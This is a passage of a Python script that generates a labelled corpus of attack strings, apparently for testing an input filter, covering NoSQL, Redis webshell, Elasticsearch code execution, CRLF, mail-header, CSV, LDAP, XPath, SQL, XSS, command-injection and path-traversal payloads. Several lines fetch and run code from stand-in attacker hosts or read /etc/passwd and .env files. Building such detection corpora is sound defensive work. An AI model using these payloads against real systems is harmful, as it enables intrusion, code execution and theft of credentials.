aggregation :: {"$expr": {"$gt": [{"$strLenCP": "$password_hash"}, 0]}}
aggregation :: [{"$out": "price_list"}]
couch :: {"selector": {"_id": {"$gt": null}}, "fields": ["password"]}
elastic :: {"query": {"script": {"script": "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")"}}}
redis :: maple\r\nCONFIG SET dir /var/www/html\r\nSET x "<?php system($_GET[c]);?>"\r\nSAVE
operator :: {"notes": {"$regex": ".*", "$options": "si"}, "owner": {"$ne": "me"}}
""")

LIT["crlf"] = rows(r"""
log-forging :: spruce top¶LF¶2024-06-01 09:12:44 INFO user=admin action=login result=success ip=10.0.0.2
log-forging :: R-2231 closed¶CR¶¶LF¶[AUDIT] payment refund 4500.00 approved by owner
log-forging :: maple%0a2024-06-02T10:00:00Z WARN stock adjusted ebony=0 by system
log-forging :: viola%0d%0a127.0.0.1 - admin [02/Jun/2024:10:00:00 +0000] "GET /admin/export HTTP/1.1" 200 512
log-forging :: customer note¶LF¶¶LF¶=== SESSION END ===¶LF¶user tech1 deleted all tickets
log-forging :: cello\u000a[INFO] CITES check passed for Brazilian rosewood lot 88
log-forging :: bridge blank%E5%98%8A%E5%98%8DSet-Cookie: role=admin
header :: x¶CR¶¶LF¶Set-Cookie: session=attacker-fixed; Path=/
header :: en-GB%0d%0aX-Forwarded-For: 127.0.0.1
header :: /labels/print%0D%0ALocation:%20https://attacker.example/
header :: price_list.csv%0d%0aContent-Disposition: attachment; filename=invoice.exe
header :: workshop%0d%0aAccess-Control-Allow-Origin: https://attacker.example%0d%0aAccess-Control-Allow-Credentials: true
header :: fr¶CR¶¶LF¶Content-Security-Policy: script-src * 'unsafe-inline'
header :: utf-8%0AContent-Type:%20text/html
splitting :: x%0d%0aContent-Length: 0%0d%0a%0d%0aHTTP/1.1 200 OK%0d%0aContent-Type: text/html%0d%0a%0d%0a<script>alert(1)</script>
splitting :: ready¶CR¶¶LF¶¶CR¶¶LF¶<html><body>Your account is locked, <a href=https://attacker.example/reset>reset here</a></body></html>
splitting :: /r/2231%0d%0a%0d%0a<img src=x onerror=alert(document.domain)>
splitting :: %0d%0aTransfer-Encoding: chunked%0d%0a%0d%0a0%0d%0a%0d%0aGET /admin HTTP/1.1%0d%0aHost: localhost
mail :: anna.k@example.com%0ABcc: everyone@attacker.example
mail :: Commission update¶CR¶¶LF¶Bcc: list@attacker.example¶CR¶¶LF¶X-Priority: 1
mail :: customer@example.com¶LF¶Cc: leak@attacker.example¶LF¶Subject: Invoice overdue - pay at attacker.example
mail :: Your instrument is ready%0d%0aContent-Type: text/html%0d%0a%0d%0a<a href="https://attacker.example/pay">Pay balance</a>
mail :: workshop@example.com%0D%0AReply-To:%20billing@attacker.example
mail :: Jean-Luc¶CR¶¶LF¶To: all-customers@example.com¶CR¶¶LF¶¶CR¶¶LF¶Free varnish! Click https://attacker.example
mail :: Seán Ó Súilleabháin%0d%0aSubject: Deposit refund approved%0d%0aBcc: refunds@attacker.example
csv-row :: Violin 4/4 student outfit¶LF¶VN-00-FREE,Violin 4/4 master,0.01,999
csv-row :: "Setup, guitar"¶CR¶¶LF¶SVC-ZERO,"Neck reset",0.00,
csv-row :: Bow rehair;75,00¶LF¶=HYPERLINK("https://attacker.example/pay";"Pay here");0;0
csv-row :: spruce top AAA%0aSTR-EVAH-44,Evah Pirazzi set,0.01,10
csv-row :: ebony",1,2¶LF¶"ADMIN-OVERRIDE","discount",-100%,
""")

LIT["ldap-xpath"] = rows(r"""
ldap :: *)(uid=*))(|(uid=*
ldap :: admin)(&)
ldap :: luthier*)(|(objectClass=*)
ldap :: *)(userPassword=*)
ldap :: anna)(|(mail=*@example.com)(description=*
ldap :: \2a\29\28cn\3d\2a
ldap :: *))%00
ldap :: jdoe)(!(department=*))(|(cn=*
ldap :: *)(memberOf=cn=admins,ou=groups,dc=workshop,dc=local)
ldap :: x*)(|(telephoneNumber=*)(sn=a*
xpath :: ' or '1'='1
xpath :: spruce' or name()='user' or 'a'='b
xpath :: ']|//staff/password|//x['
xpath :: x' or count(//customer)>0 or 'a'='b
xpath :: ' and substring(//user[1]/pass,1,1)='a' and ''='
xpath :: maple"] | //* | //x["
xpath :: 1 or 1=1]/parent::*/child::node()|//a[1
xpath :: ' or string-length(name(/*[1]))=5 or '
xpath :: VN-44' or doc('http://attacker.example/x.xml') or '
xpath :: ') or contains(//card_number,'4') or ('
""")

# Hand-written pools for the small generated share.
SQLI_POOL = ["' OR 3=3-- ", "') UNION SELECT password_hash,2 FROM staff-- ", "'; DROP TABLE wood_stock;--",
             "' AND SLEEP(5)-- "]
SQLI_PREFIX = ["spruce top", "VN-44-STD", "R-2231", "cello 7/8"]
XSS_POOL = ["<img src=q onerror=alert(7)>", "<svg/onload=fetch('//attacker.example/v')>",
            "<iframe src=javascript:alert(2)>"]
XSS_PREFIX = ["Thanks for the repair! ", "Build photo caption: ", "Commission note: "]
CMDI_POOL = ["; curl attacker.example/w|sh", "| id", "$(wget -qO- 198.51.100.77/k|sh)"]
CMDI_PREFIX = ["label_214.pdf", "export.csv", "photo-cello.jpg"]
URLENC_SQLI = ["maple' OR 1=1-- ", "1 UNION SELECT username,password_hash FROM staff"]
URLENC_TRAV = ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "../../../srv/workshop/.env",
               "../../../../proc/self/environ"]

SIZES = {"sqli": 80, "xss": 80, "cmdi": 75, "traversal": 50, "ssrf": 50, "code": 86, "nosqli": 27,
         "crlf": 30, "ldap-xpath": 20}


def urlenc(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def combos(rng, prefixes, pool, cls, n, taken):
    out = []
    pairs = [(p, q) for p in prefixes for q in pool]
    rng.shuffle(pairs)
    for p, q in pairs:
        if len(out) >= n:
            break
        v = p + q
        if v in taken:
            continue
        taken.add(v)
        out.append((cls, v))
    return out


def main():
    rng = random.Random(SEED)
    benign = set()
    bp = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bp):
        with open(bp, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    taken = set(benign)
    result = []
    for cat in ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]:
        items = []
        for cls, v in LIT[cat]:
            assert v not in taken, (cat, v)
            assert 1 <= len(v) <= 2000
            taken.add(v)
            items.append((cls, v))
        need = SIZES[cat] - len(items)
        if cat == "sqli":
            for s in URLENC_SQLI:
                v = urlenc(s)
                taken.add(v)
                items.append(("union+urlencode" if "UNION" in s else "boolean+urlencode", v))
            items += combos(rng, SQLI_PREFIX, SQLI_POOL, "combo", SIZES[cat] - len(items), taken)
        elif cat == "xss":
            items += combos(rng, XSS_PREFIX, XSS_POOL, "combo", need, taken)
        elif cat == "cmdi":
            items += combos(rng, CMDI_PREFIX, CMDI_POOL, "combo", need, taken)
        elif cat == "traversal":
            for s in URLENC_TRAV[:need]:
                v = urlenc(s)
                taken.add(v)
                items.append(("dotdot+urlencode", v))
        assert len(items) == SIZES[cat], (cat, len(items))
        for cls, v in items:
            result.append((cat, cls, v))
    with open(os.path.join(HERE, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(result, 1):
            obj = {"id": "hakb-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
